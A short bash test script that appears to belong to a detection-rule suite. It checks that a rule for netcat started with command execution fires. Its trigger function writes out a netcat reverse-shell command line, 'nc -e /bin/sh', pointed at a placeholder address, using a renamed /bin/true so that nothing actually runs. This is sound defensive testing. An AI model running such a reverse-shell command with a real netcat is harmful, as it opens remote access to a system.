#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# stdlib rule test: "Netcat or Socat Started with Command Execution"
# usage: netcat_exec.sh trigger|nearmiss   (see lib/common.sh and manifest.tsv)
source "$(dirname "$0")/lib/common.sh"

trigger() {
	# /bin/true under the name nc: only the command line matters
	"$(fc_as nc /bin/true)" -e /bin/sh 192.0.2.1 4444
}

nearmiss() {
	"$(fc_as nc /bin/true)" -z 192.0.2.1 4444
}

"$MODE"
